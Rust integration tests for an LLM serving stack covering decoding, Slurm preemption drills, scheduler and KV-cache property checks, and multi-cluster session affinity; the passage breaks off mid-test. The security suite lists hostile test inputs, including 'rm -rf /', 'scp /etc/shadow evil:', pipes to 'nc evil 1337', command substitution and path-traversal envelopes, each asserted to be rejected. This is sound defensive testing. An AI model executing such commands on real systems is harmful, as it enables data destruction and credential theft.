fn argmax(v: &[f32]) -> i32 {
    v.iter()
        .enumerate()
        .max_by(|a, b| a.1.partial_cmp(b.1).unwrap())
        .map(|(i, _)| i as i32)
        .unwrap()
}

#[test]
fn prefill_decode_equivalence() {
    let Some(exec) = executor() else { return };
    let prompt = [5i32, 9, 200, 7, 42];

    let (full_logits, _) = exec.prefill("tiny", &prompt).unwrap();
    assert_eq!(full_logits.len(), 512);
    assert!(full_logits.iter().all(|v| v.is_finite()));

    let (_, kv) = exec.prefill("tiny", &prompt[..4]).unwrap();
    let (logits, _) = exec
        .decode("tiny", vec![prompt[4]], vec![4], vec![kv])
        .unwrap();
    let diff = max_abs_diff(&logits[0], &full_logits);
    assert!(diff < 5e-3, "prefill/decode mismatch: {diff}");
}

#[test]
fn batched_decode_matches_single() {
    let Some(exec) = executor() else { return };
    let (_, kv_a) = exec.prefill("tiny", &[1, 2, 3]).unwrap();
    let (_, kv_b) = exec.prefill("tiny", &[9, 8]).unwrap();

    let (batch_logits, batch_kvs) = exec
        .decode(
            "tiny",
            vec![4, 7],
            vec![3, 2],
            vec![kv_a.clone(), kv_b.clone()],
        )
        .unwrap();

    let (la, kva) = exec.decode("tiny", vec![4], vec![3], vec![kv_a]).unwrap();
    let (lb, kvb) = exec.decode("tiny", vec![7], vec![2], vec![kv_b]).unwrap();

    assert!(max_abs_diff(&batch_logits[0], &la[0]) < 5e-3);
    assert!(max_abs_diff(&batch_logits[1], &lb[0]) < 5e-3);
    assert!(max_abs_diff(&batch_kvs[0].data, &kva[0].data) < 5e-3);
    assert!(max_abs_diff(&batch_kvs[1].data, &kvb[0].data) < 5e-3);
}

#[test]
fn greedy_generation_is_deterministic() {
    let Some(exec) = executor() else { return };
    let gen = || -> Vec<i32> {
        let prompt = [72i32, 101, 108, 108, 111]; // "Hello" bytes
        let (logits, kv) = exec.prefill("tiny", &prompt).unwrap();
        let mut kvs = vec![kv];
        let mut out = Vec::new();
        let mut tok = argmax(&logits);
        let mut pos = prompt.len() as i32;
        for _ in 0..8 {
            out.push(tok);
            let (l, new_kvs) = exec
                .decode("tiny", vec![tok], vec![pos], std::mem::take(&mut kvs))
                .unwrap();
            kvs = new_kvs;
            tok = argmax(&l[0]);
            pos += 1;
        }
        out
    };
    let a = gen();
    let b = gen();
    assert_eq!(a, b, "greedy decoding must be deterministic");
    assert!(a.iter().all(|t| (0..512).contains(t)));
}

#[test]
fn executor_errors_are_clean() {
    let Some(exec) = executor() else { return };
    assert!(exec.load("nonexistent-model").is_err());
    assert!(exec.prefill("not-loaded", &[1, 2]).is_err());
    // Unload then use → clean error, reload works.
    exec.load("tiny").unwrap();
    exec.unload("tiny");
    assert!(exec.prefill("tiny", &[1]).is_err());
    exec.load("tiny").unwrap();
    assert!(exec.prefill("tiny", &[1]).is_ok());
}

#[test]
fn concurrent_requests_from_many_threads() {
    let Some(exec) = executor() else { return };
    let mut handles = Vec::new();
    for i in 0..8 {
        let exec = exec.clone();
        handles.push(std::thread::spawn(move || {
            let prompt = [(i % 250) as i32 + 1, 2, 3];
            let (logits, kv) = exec.prefill("tiny", &prompt).unwrap();
            assert!(logits.iter().all(|v| v.is_finite()));
            let (l, _) = exec
                .decode("tiny", vec![1], vec![3], vec![kv])
                .unwrap();
            assert!(l[0].iter().all(|v| v.is_finite()));
        }));
    }
    for h in handles {
        h.join().unwrap();
    }
}
