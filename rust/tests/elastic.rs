//! Elastic-capacity drills: preemption-notice graceful draining under a
//! batch storm, and the operator drain endpoint, end to end through the
//! full Figure-1 stack.
//!
//! The storm drill's SLO grading:
//! 1. zero stuck streams — every accepted stream reaches a terminal frame
//!    (`[DONE]` or a synthesized `event: error`), never a silent hang;
//! 2. tokens lost bounded — only streams pinned to the preempted node may
//!    be cut; survivors complete normally;
//! 3. the preempted instances requeue at front priority and the service
//!    recovers its full capacity once the storm passes;
//! 4. TTFT stays sane throughout (no cross-instance stall).

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{mpsc, Arc};
use std::time::{Duration, Instant};

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::slurm::{JobSpec, NodeState, Resources};
use chat_ai::util::http::{Client, Request, SseParser};
use chat_ai::util::json::Json;

fn wait_until(deadline: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + deadline;
    while Instant::now() < end {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    cond()
}

#[test]
fn preemption_storm_drains_gracefully_with_zero_stuck_streams() {
    let mut config = StackConfig::default();
    config.keepalive = Duration::from_millis(50);
    // 2 nodes × 4 GPUs, fully occupied by 4 two-GPU instances: a full-node
    // batch job can only run by preempting one node (= half the service).
    config.gpu_nodes = 2;
    config.services[0].gpus = 2;
    config.services[0].min_instances = 4;
    config.services[0].max_instances = 4;
    config.elastic.enabled = true;
    config.elastic.grace = Duration::from_secs(5);
    config.elastic.gap_walltime = Duration::from_secs(600);
    config.elastic.standby = 1;
    let stack = Stack::launch(config).expect("launch");
    let svc = stack.config.services[0].name.clone();
    assert!(
        wait_until(Duration::from_secs(180), || stack.routing.counts(&svc).1 >= 4),
        "4 instances never became ready"
    );
    stack.gateway.add_api_key("sk-storm", "drill");

    // 8 long streams spread over the 4 instances; each reports
    // (status, saw [DONE], saw event:error, TTFT) when it terminates.
    let first_chunks = Arc::new(AtomicUsize::new(0));
    let (tx, rx) = mpsc::channel();
    for i in 0..8 {
        let url = stack.gateway_url();
        let svc = svc.clone();
        let first_chunks = first_chunks.clone();
        let tx = tx.clone();
        std::thread::spawn(move || {
            let mut client = Client::new(&url);
            let body = Json::obj()
                .set(
                    "messages",
                    vec![Json::obj()
                        .set("role", "user")
                        .set("content", format!("storm stream {i}"))],
                )
                .set("max_tokens", 400u64)
                .set("stream", true);
            let req = Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-api-key", "sk-storm")
                .with_body(body.to_string().into_bytes());
            let t0 = Instant::now();
            let mut sse = SseParser::new();
            let mut events: Vec<String> = Vec::new();
            let mut ttft = None;
            let resp = client.send_streaming(&req, |chunk| {
                let new = sse.push(chunk);
                if ttft.is_none() && !new.is_empty() {
                    ttft = Some(t0.elapsed());
                    first_chunks.fetch_add(1, Ordering::Relaxed);
                }
                events.extend(new);
            });
            let status = resp.map(|r| r.status).unwrap_or(0);
            let done = events.last().map(|e| e == "[DONE]").unwrap_or(false);
            let errored = sse.event_names.iter().any(|n| n == "error");
            let _ = tx.send((status, done, errored, ttft));
        });
    }
    drop(tx);

    // All 8 streams are decoding before the storm lands.
    assert!(
        wait_until(Duration::from_secs(60), || {
            first_chunks.load(Ordering::Relaxed) >= 8
        }),
        "streams never started producing tokens"
    );

    // The storm: a non-preemptible full-node batch job on a cluster with
    // zero free GPUs. Slurm must claim a node, notice its two service
    // jobs, give them the 5 s grace, then kill and requeue them.
    stack.ctld.lock().unwrap().sbatch(JobSpec::batch(
        "storm-batch",
        Resources {
            cpus: 8,
            gpus: 4,
            mem_mb: 64_000,
        },
        10_000,
        30_000,
    ));

    // SLO 1: no stream is stuck — each one delivers a terminal frame.
    let mut completed = 0usize;
    let mut errored = 0usize;
    let mut worst_ttft = Duration::ZERO;
    for _ in 0..8 {
        let (status, done, err, ttft) = rx
            .recv_timeout(Duration::from_secs(120))
            .expect("a stream hung without a terminal frame");
        assert_eq!(status, 200, "stream was accepted before the storm");
        assert!(
            done || err,
            "stream ended with neither [DONE] nor a terminal event:error"
        );
        if done {
            completed += 1;
        } else {
            errored += 1;
        }
        worst_ttft = worst_ttft.max(ttft.expect("stream produced no tokens"));
    }
    // SLO 2: losses bounded to the preempted node's share. With
    // least-loaded routing, 8 streams sit ~2 per instance and the storm
    // takes out 2 of 4 instances; streams that finish within the grace
    // window complete normally instead.
    assert!(
        completed >= 1,
        "surviving instances should finish their streams"
    );
    assert!(
        errored <= 5,
        "more streams cut ({errored}) than the preempted node could carry"
    );
    // SLO 4: TTFT was measured pre-storm for all streams; it must not show
    // a cross-instance stall.
    assert!(
        worst_ttft < Duration::from_secs(30),
        "pre-storm TTFT degenerate: {worst_ttft:?}"
    );
    // Every cut stream got its terminal error synthesized at the relay hop.
    let synthesized = stack
        .cloud_interface
        .stream_stats
        .terminal_errors_synthesized
        .load(std::sync::atomic::Ordering::Relaxed);
    assert!(
        synthesized >= errored as u64,
        "cut streams ({errored}) missing synthesized terminal errors ({synthesized})"
    );

    // SLO 3: the preemption actually happened via notice + grace + requeue…
    assert!(
        wait_until(Duration::from_secs(60), || {
            stack
                .scheduler
                .stats
                .preemption_notices
                .load(Ordering::Relaxed)
                >= 2
                && stack.scheduler.stats.requeues.load(Ordering::Relaxed) >= 2
        }),
        "storm never preempted the node's two instances"
    );
    // …and once the batch job finishes, the requeued (front-priority)
    // instances restart and full capacity returns.
    assert!(
        wait_until(Duration::from_secs(120), || {
            stack.routing.counts(&svc).1 >= 4
        }),
        "service capacity never recovered after the storm"
    );
    // The recovered service serves traffic.
    let mut client = Client::new(&stack.gateway_url());
    let resp = client
        .send(
            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-api-key", "sk-storm")
                .with_body(
                    Json::obj()
                        .set(
                            "messages",
                            vec![Json::obj().set("role", "user").set("content", "post-storm")],
                        )
                        .set("max_tokens", 4u64)
                        .to_string()
                        .into_bytes(),
                ),
        )
        .unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    stack.shutdown();
}

#[test]
fn admin_drain_endpoint_drains_and_restores_slurm_nodes() {
    let mut config = StackConfig::default();
    config.keepalive = Duration::from_millis(100);
    config.gpu_nodes = 2;
    let stack = Stack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(180)), "stack not ready");
    stack.gateway.add_api_key("sk-ops", "operator");
    let mut client = Client::new(&stack.gateway_url());

    // Unauthenticated operators are rejected.
    let resp = client
        .send(
            &Request::new("POST", "/admin/drain")
                .with_body(Json::obj().set("node", "ggpu02").to_string().into_bytes()),
        )
        .unwrap();
    assert_eq!(resp.status, 401);

    // Authenticated drain reaches Slurm's drain_node.
    let drain = |client: &mut Client, node: &str, drain: bool| {
        client
            .send(
                &Request::new("POST", "/admin/drain")
                    .with_header("x-api-key", "sk-ops")
                    .with_body(
                        Json::obj()
                            .set("node", node)
                            .set("drain", drain)
                            .to_string()
                            .into_bytes(),
                    ),
            )
            .unwrap()
    };
    let resp = drain(&mut client, "ggpu02", true);
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(resp.json().unwrap().str_field("state"), Some("drained"));
    let state = |stack: &Stack, node: &str| {
        stack
            .ctld
            .lock()
            .unwrap()
            .sinfo()
            .into_iter()
            .find(|(n, _, _)| n == node)
            .map(|(_, s, _)| s)
    };
    assert_eq!(state(&stack, "ggpu02"), Some(NodeState::Drained));

    // Unknown nodes are a 404, not a silent no-op.
    let resp = drain(&mut client, "ghost99", true);
    assert_eq!(resp.status, 404);

    // `"drain": false` restores the node.
    let resp = drain(&mut client, "ggpu02", false);
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(resp.json().unwrap().str_field("state"), Some("up"));
    assert_eq!(state(&stack, "ggpu02"), Some(NodeState::Up));
    stack.shutdown();
}
