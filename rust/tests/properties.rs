//! Cross-module property suites: randomized workloads against the
//! coordinator invariants (Slurm allocation, scheduler routing, demand
//! accounting) in virtual time.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use chat_ai::llm::BlockManager;
use chat_ai::scheduler::{
    DemandTracker, InstanceLauncher, RoutingTable, ScaleDownPolicy, ServiceConfig,
    ServiceScheduler,
};
use chat_ai::slurm::{BackgroundLoad, BackgroundLoadConfig, JobId, JobSpec, Resources, Slurmctld};
use chat_ai::util::clock::{Clock, SimClock};
use chat_ai::util::propcheck;
use chat_ai::util::rng::Rng;

#[test]
fn slurm_random_workload_invariants() {
    propcheck::check(
        "slurm invariants under random ops",
        chat_ai::util::propcheck::Config {
            cases: 24,
            ..Default::default()
        },
        |rng| {
            let clock = SimClock::new();
            let nodes = rng.range(1, 6) as usize;
            let mut ctld = Slurmctld::with_gpu_nodes(clock.clone(), nodes);
            let mut live: Vec<JobId> = Vec::new();
            for _ in 0..120 {
                match rng.below(10) {
                    0..=4 => {
                        let gpus = rng.range(1, 4) as u32;
                        let duration = rng.range(1_000, 60_000);
                        let id = ctld.sbatch(JobSpec::batch(
                            "b",
                            Resources { cpus: 2 * gpus, gpus, mem_mb: 1000 },
                            duration,
                            duration * 2,
                        ));
                        live.push(id);
                    }
                    5 => {
                        if let Some(&id) = rng.choose(&live) {
                            ctld.scancel(id);
                        }
                    }
                    6 => {
                        let name = format!("ggpu{:02}", rng.range(1, nodes as u64));
                        ctld.fail_node(&name);
                    }
                    7 => {
                        let name = format!("ggpu{:02}", rng.range(1, nodes as u64));
                        ctld.restore_node(&name);
                    }
                    _ => {
                        clock.advance_by(rng.range(100, 10_000));
                    }
                }
                ctld.tick();
                ctld.check_invariants();
            }
        },
    );
}

/// Launcher whose readiness is random but eventually true.
struct RandomLauncher {
    probes: Mutex<HashMap<JobId, u32>>,
    threshold: u32,
    counter: std::sync::atomic::AtomicU64,
}

impl InstanceLauncher for RandomLauncher {
    fn launch(&self, _s: &ServiceConfig, _j: JobId, _n: &str, _p: u16) {}
    fn probe(&self, job: JobId) -> Option<SocketAddr> {
        let mut m = self.probes.lock().unwrap();
        let n = m.entry(job).or_insert(0);
        *n += 1;
        (*n >= self.threshold).then(|| {
            let p = self
                .counter
                .fetch_add(1, std::sync::atomic::Ordering::Relaxed) as u16;
            SocketAddr::from(([127, 0, 0, 1], 1000 + p))
        })
    }
    fn stop(&self, _j: JobId) {}
}

#[test]
fn scheduler_routing_invariants_under_chaos() {
    propcheck::check(
        "scheduler invariants",
        chat_ai::util::propcheck::Config {
            cases: 16,
            ..Default::default()
        },
        |rng| {
            let clock = SimClock::new();
            let nodes = rng.range(2, 6) as usize;
            let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), nodes)));
            let routing = Arc::new(RoutingTable::new());
            let demand = Arc::new(DemandTracker::new(60_000));
            let launcher = Arc::new(RandomLauncher {
                probes: Mutex::new(HashMap::new()),
                threshold: rng.range(1, 4) as u32,
                counter: Default::default(),
            });
            let config = ServiceConfig {
                max_instances: rng.range(1, 4) as u32,
                target_concurrency: 4.0,
                scale_down: if rng.chance(0.5) {
                    ScaleDownPolicy::Expire
                } else {
                    ScaleDownPolicy::Cancel
                },
                time_limit: 600_000,
                renew_margin: 60_000,
                ..ServiceConfig::new("svc", "m", rng.range(1, 3) as u32)
            };
            let scheduler = ServiceScheduler::new(
                vec![config],
                ctld.clone(),
                routing.clone(),
                demand.clone(),
                clock.clone(),
                launcher,
                rng.next_u64(),
            );
            let mut bg = BackgroundLoad::new(BackgroundLoadConfig::default(), rng.next_u64());
            let mut in_flight = 0u64;
            for _ in 0..150 {
                match rng.below(8) {
                    0 => {
                        demand.begin("svc", clock.now_ms());
                        in_flight += 1;
                    }
                    1 => {
                        if in_flight > 0 {
                            demand.end("svc", clock.now_ms());
                            in_flight -= 1;
                        }
                    }
                    2 => {
                        let name = format!("ggpu{:02}", rng.range(1, nodes as u64));
                        ctld.lock().unwrap().fail_node(&name);
                    }
                    3 => {
                        let name = format!("ggpu{:02}", rng.range(1, nodes as u64));
                        ctld.lock().unwrap().restore_node(&name);
                    }
                    _ => {}
                }
                {
                    let mut c = ctld.lock().unwrap();
                    bg.pump(&mut c);
                }
                scheduler.run();
                clock.advance_by(5_000);

                // INVARIANTS after every cycle:
                ctld.lock().unwrap().check_invariants();
                let entries = routing.snapshot();
                // 1. every routed job is an active Slurm job on that node
                {
                    let c = ctld.lock().unwrap();
                    for e in &entries {
                        let job = c.job(e.job).expect("routed job exists");
                        assert!(
                            job.state.is_running(),
                            "routing table references non-running job {}",
                            e.job
                        );
                        assert_eq!(job.running_node(), Some(e.node.as_str()));
                    }
                }
                // 2. ready instances have addresses
                for e in &entries {
                    if e.ready {
                        assert!(e.addr.is_some());
                    }
                }
                // 3. no port is used twice
                let mut ports: Vec<u16> = entries.iter().map(|e| e.port).collect();
                ports.sort();
                let before = ports.len();
                ports.dedup();
                assert_eq!(ports.len(), before, "duplicate ports in routing table");
                // 4. instance count within configured bounds (active,
                //    non-draining jobs can exceed transiently only during
                //    scale-down drain, which keeps entries ≤ max + drain)
                assert!(entries.len() <= 8, "unbounded instance growth");
            }
        },
    );
}

#[test]
fn demand_tracker_never_negative_and_windows_expire() {
    propcheck::quick("demand tracker", |rng| {
        let tracker = DemandTracker::new(rng.range(1_000, 60_000));
        let mut t = 0u64;
        let mut in_flight = 0i64;
        for _ in 0..300 {
            t += rng.range(1, 500);
            if rng.chance(0.55) {
                tracker.begin("s", t);
                in_flight += 1;
            } else {
                tracker.end("s", t);
                in_flight = (in_flight - 1).max(0);
            }
            let avg = tracker.avg_concurrency("s", t);
            assert!(avg >= 0.0, "negative concurrency");
            assert!(
                avg <= (in_flight.max(1) as f64) * 300.0 + 300.0,
                "implausible average"
            );
        }
    });
}

/// The refcounted prefix-sharing block manager under chaos: random
/// interleavings of admit (often with shared prompt templates, so prefix
/// hits and shared blocks actually occur), append, fork (shared prefix +
/// copy-on-write tail), release and preempt-release must preserve every
/// structural invariant — no block both free and live, refcounts exact,
/// the cached pool disjoint from live blocks, zero leaks — and releasing
/// everything must return the whole budget.
#[test]
fn kv_block_manager_invariants_under_chaos() {
    propcheck::check(
        "kv block manager refcount/prefix invariants",
        chat_ai::util::propcheck::Config {
            cases: 32,
            ..Default::default()
        },
        |rng| {
            let total = rng.range(4, 48) as usize;
            let block_size = rng.range(1, 24) as usize;
            let prefix_cache = rng.chance(0.8);
            let watermark = rng.below(3) as usize;
            let mut bm =
                BlockManager::with_options(total, block_size, prefix_cache, watermark);
            // A few prompt templates: admissions draw prefixes of these,
            // so content-identical prefixes (the sharing case) are common.
            let templates: Vec<Vec<i32>> = (0..3)
                .map(|t| {
                    let len = rng.range(2, 80);
                    (0..len).map(|i| (t * 1000 + i) as i32).collect()
                })
                .collect();
            let mut live: Vec<u64> = Vec::new();
            let mut next = 1u64;
            for _ in 0..300 {
                match rng.below(8) {
                    0..=2 => {
                        // Admit a (often shared) prompt prefix, sometimes
                        // with a divergent last token.
                        let t = rng.choose(&templates).unwrap();
                        let cut = rng.range(1, t.len() as u64) as usize;
                        let mut prompt = t[..cut].to_vec();
                        if rng.chance(0.3) {
                            prompt.push(5000 + rng.below(64) as i32);
                        }
                        // can_admit is conservative (growth watermark);
                        // admit itself enforces only hard feasibility.
                        let fits = bm.can_admit(&prompt);
                        match bm.admit(next, &prompt) {
                            Ok(_) => {
                                live.push(next);
                                next += 1;
                            }
                            Err(_) => assert!(
                                !fits,
                                "can_admit promised space admit refused"
                            ),
                        }
                    }
                    3 | 4 => {
                        // Decode growth (may legitimately fail when full).
                        if let Some(&seq) = rng.choose(&live) {
                            let _ = bm.append_token(seq, rng.below(64) as i32);
                        }
                    }
                    5 => {
                        // Fork: every block shared by refcount; a later
                        // divergent append exercises the CoW path.
                        if let Some(&seq) = rng.choose(&live) {
                            if bm.fork(seq, next).is_ok() {
                                live.push(next);
                                next += 1;
                            }
                        }
                    }
                    _ => {
                        // Release — completion, cancellation and preemption
                        // are the same manager-level operation.
                        if !live.is_empty() {
                            let idx = rng.below(live.len() as u64) as usize;
                            let seq = live.swap_remove(idx);
                            bm.release(seq).unwrap();
                        }
                    }
                }
                bm.check_invariants();
            }
            for seq in live {
                bm.release(seq).unwrap();
            }
            bm.check_invariants();
            assert_eq!(
                bm.available_blocks(),
                total,
                "blocks leaked after releasing every sequence"
            );
        },
    );
}

#[test]
fn rng_streams_uniformity_property() {
    propcheck::quick("below() uniform across ranges", |rng| {
        let n = rng.range(2, 64);
        let mut counts = vec![0u32; n as usize];
        let mut local = Rng::new(rng.next_u64());
        let samples = 2000;
        for _ in 0..samples {
            counts[local.below(n) as usize] += 1;
        }
        let expect = samples as f64 / n as f64;
        for (i, c) in counts.iter().enumerate() {
            assert!(
                (*c as f64) > expect * 0.3 && (*c as f64) < expect * 3.0,
                "bucket {i}: {c} vs expect {expect}"
            );
        }
    });
}
