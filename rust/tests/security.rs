//! Security test suite (§6.1): the paper's attack scenarios, as assertions.

use std::time::Duration;

use chat_ai::cloud_interface::{parse_command, parse_op, Violation, EXIT_VIOLATION};
use chat_ai::config::StackConfig;
use chat_ai::coordinator::{Stack, FUNCTIONAL_KEY};
use chat_ai::ssh::SshClient;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::propcheck;

fn stack() -> Stack {
    let mut config = StackConfig::default();
    config.keepalive = Duration::from_millis(100);
    let s = Stack::launch(config).expect("launch");
    assert!(s.wait_ready(Duration::from_secs(180)));
    s
}

#[test]
fn stolen_key_cannot_get_a_shell() {
    let stack = stack();
    let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY).unwrap();
    for cmd in ["/bin/bash", "sh -c 'id'", "scp /etc/shadow evil:", "python3"] {
        let out = client.exec(cmd, b"").unwrap();
        assert_eq!(
            out.exit_code, EXIT_VIOLATION,
            "command {cmd:?} must hit the ForceCommand script and be rejected"
        );
    }
    stack.shutdown();
}

#[test]
fn unknown_keys_are_refused() {
    let stack = stack();
    for key in ["SHA256:attacker", "", "SHA256:chat-ai-functional-account2"] {
        assert!(SshClient::connect(stack.sshd.addr(), key).is_err(), "{key:?}");
    }
    assert!(stack.sshd.stats().2 >= 3, "auth failures audited");
    stack.shutdown();
}

#[test]
fn injection_corpus_rejected() {
    // Pure-parser corpus (no stack needed): every classic injection shape.
    let corpus: &[&str] = &[
        "saia ping; rm -rf /",
        "saia ping && curl evil",
        "saia probe $(cat /etc/passwd)",
        "saia probe `reboot`",
        "saia probe llama | nc evil 1337",
        "saia request < /etc/shadow",
        "saia request > /tmp/x",
        "saia eval 1+1",
        "saia request\nsaia ping",
        "saia probe ../../../root",
        "saia probe a'b",
        "saia probe a\"b",
        "saia probe a\\b",
        "saia probe a*",
        "saia probe a?",
        "saia probe a{1,2}",
        "saia probe a~",
        "saia probe a#b",
        "saia probe a!b",
    ];
    for attack in corpus {
        assert!(parse_command(attack).is_err(), "accepted: {attack:?}");
    }
}

#[test]
fn envelope_attacks_rejected() {
    let cases: &[&[u8]] = &[
        br#"{"service":"llama","method":"POST","path":"/etc/passwd","body":""}"#,
        br#"{"service":"llama","method":"TRACE","path":"/v1/x","body":""}"#,
        br#"{"service":"LL AMA","method":"POST","path":"/v1/x","body":""}"#,
        br#"{"service":"llama","method":"POST","path":"/v1/../../x","body":""}"#,
        br#"{"service":"llama","method":"POST","path":"/v1/x","headers":{"a":"b\r\nc: d"},"body":""}"#,
        br#"{"service":"llama","method":"POST","path":"/v1/x;id","body":""}"#,
        b"\xff\xfe not utf8",
    ];
    for stdin in cases {
        assert!(
            parse_op("saia request", stdin).is_err(),
            "accepted envelope: {:?}",
            String::from_utf8_lossy(stdin)
        );
    }
}

#[test]
fn property_fuzzed_commands_never_escape_allowlist() {
    propcheck::quick("fuzzed command strings", |rng| {
        let s = propcheck::nasty_string(rng, 30);
        match parse_command(&s) {
            Ok(verb) => {
                // Anything accepted must be exactly a known verb shape.
                let repr = format!("{verb:?}");
                assert!(
                    repr.starts_with("Ping")
                        || repr.starts_with("Probe")
                        || repr.starts_with("Request"),
                    "unexpected verb from {s:?}"
                );
            }
            Err(_) => {}
        }
    });
    propcheck::quick("fuzzed envelopes", |rng| {
        let garbage = propcheck::nasty_string(rng, 200);
        // Either clean rejection or a fully validated request.
        match parse_op("saia request", garbage.as_bytes()) {
            Ok(chat_ai::cloud_interface::Op::Request(req)) => {
                assert!(chat_ai::cloud_interface::valid_service_name(&req.service));
                assert!(req.path.starts_with("/v1/") || req.path.starts_with("/health"));
            }
            _ => {}
        }
    });
}

#[test]
fn gateway_rejects_forged_identity_and_bad_keys() {
    let stack = stack();
    let svc = stack.config.services[0].name.clone();
    let mut client = Client::new(&stack.gateway_url());
    // forged SSO header without the proxy secret
    let resp = client
        .send(
            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-user-email", "president@uni.de")
                .with_body(b"{}".to_vec()),
        )
        .unwrap();
    assert_eq!(resp.status, 401);
    // forged header WITH a wrong secret
    let resp = client
        .send(
            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-user-email", "president@uni.de")
                .with_header("x-proxy-secret", "guess")
                .with_body(b"{}".to_vec()),
        )
        .unwrap();
    assert_eq!(resp.status, 401);
    // invalid API keys
    for key in ["", "sk-invalid", "Bearer"] {
        let resp = client
            .send(
                &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                    .with_header("x-api-key", key)
                    .with_body(b"{}".to_vec()),
            )
            .unwrap();
        assert_eq!(resp.status, 401, "key {key:?}");
    }
    assert!(stack.gateway.unauthorized.load(std::sync::atomic::Ordering::Relaxed) >= 5);
    stack.shutdown();
}

#[test]
fn violations_are_audited_through_live_stack() {
    let stack = stack();
    let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY).unwrap();
    let before = stack
        .cloud_interface
        .violations
        .load(std::sync::atomic::Ordering::Relaxed);
    for _ in 0..3 {
        let _ = client.exec("saia ping; evil", b"").unwrap();
    }
    let after = stack
        .cloud_interface
        .violations
        .load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(after - before, 3);
    stack.shutdown();
}
