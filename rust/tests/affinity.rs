//! Cache-affinity federation integration tests: full multi-cluster stacks
//! (real sockets, real SSH channels, real engines) exercising session →
//! cluster stickiness, failover of pinned sessions, catalog-gated
//! placement and the federated `GET /v1/models` endpoint.

use std::sync::atomic::Ordering;
use std::time::Duration;

use chat_ai::config::{ClusterSpec, ModelSpec, ServiceSpec, StackConfig};
use chat_ai::coordinator::FederatedStack;
use chat_ai::federation::{probe_all, ReasonCode};
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;

fn profile_service(name: &str) -> ServiceSpec {
    ServiceSpec {
        name: name.to_string(),
        // Analytic profile backend: no artifact compile, fast bring-up.
        model: "intel-neural-7b".to_string(),
        gpus: 1,
        min_instances: 1,
        max_instances: 2,
        target_concurrency: 16.0,
    }
}

fn federated_config(clusters: Vec<ClusterSpec>, services: Vec<ServiceSpec>) -> StackConfig {
    StackConfig {
        services,
        clusters,
        keepalive: Duration::from_millis(100),
        ..Default::default()
    }
}

/// Turn N of a chat session: the opening message never changes, so every
/// turn carries the same opening-block route hash. The session marker
/// leads the content — the route key hashes only the first KV block.
fn chat_turn(session: &str, turns: usize) -> Request {
    let mut messages = Vec::new();
    for i in 0..turns {
        messages.push(
            Json::obj()
                .set("role", "user")
                .set("content", format!("{session} question number {i}").as_str()),
        );
    }
    let body = Json::obj().set("messages", messages).set("max_tokens", 4u64);
    Request::new("POST", "/chat/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes())
}

fn served_by(resp: &chat_ai::util::http::ClientResponse) -> Option<&str> {
    resp.headers.get("x-cluster").map(String::as_str)
}

/// Pin `session` to hpc-b by draining hpc-a for its first turn. Returns
/// after the pin is in place and hpc-a is back in rotation.
fn pin_to_b(stack: &FederatedStack, client: &mut Client, session: &str) {
    assert!(stack.cluster_registry.set_draining("hpc-a", true));
    probe_all(&stack.cluster_registry);
    let resp = client.send(&chat_turn(session, 1)).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(served_by(&resp), Some("hpc-b"), "drained a → turn 1 on b");
    assert!(stack.cluster_registry.set_draining("hpc-a", false));
    probe_all(&stack.cluster_registry);
}

#[test]
fn multi_turn_session_sticks_to_warm_cluster() {
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    let mut client = Client::new(&stack.router_url());
    pin_to_b(&stack, &mut client, "alpha");

    // With both clusters idle the registration-order tiebreak says hpc-a,
    // but the session's warm KV blocks live on hpc-b: affinity must win.
    for turn in 2..=4 {
        let resp = client.send(&chat_turn("alpha", turn)).unwrap();
        assert_eq!(resp.status, 200, "turn {turn}: {}", resp.body_str());
        assert_eq!(
            served_by(&resp),
            Some("hpc-b"),
            "turn {turn} must stay on the warm cluster"
        );
    }
    assert!(
        stack.router.affinity_hits.load(Ordering::Relaxed) >= 3,
        "every follow-up turn is a sticky hit"
    );

    // A fresh session has no pin — plain load balancing (tie → hpc-a).
    let resp = client.send(&chat_turn("bravo", 1)).unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(served_by(&resp), Some("hpc-a"), "fresh sessions balance by load");

    // The status document carries the affinity + prefix-cache telemetry.
    let status = client.get("/federation/status").unwrap().json().unwrap();
    assert!(status.u64_field("affinity_hits").unwrap() >= 3);
    assert!(status.u64_field("affinity_sessions").unwrap() >= 2);
    let chat_b = status
        .get("clusters")
        .and_then(|c| c.get("hpc-b"))
        .and_then(|c| c.get("services"))
        .and_then(|s| s.get("chat"))
        .expect("hpc-b chat health");
    assert!(chat_b.f64_field("expected_hit_rate").is_some());
    assert!(chat_b.u64_field("prefill_tokens_saved").is_some());
    assert_eq!(
        status.get("models").unwrap().str_field("object"),
        Some("list"),
        "status embeds the model catalog"
    );

    stack.shutdown();
}

#[test]
fn sticky_session_fails_over_when_warm_cluster_dies() {
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
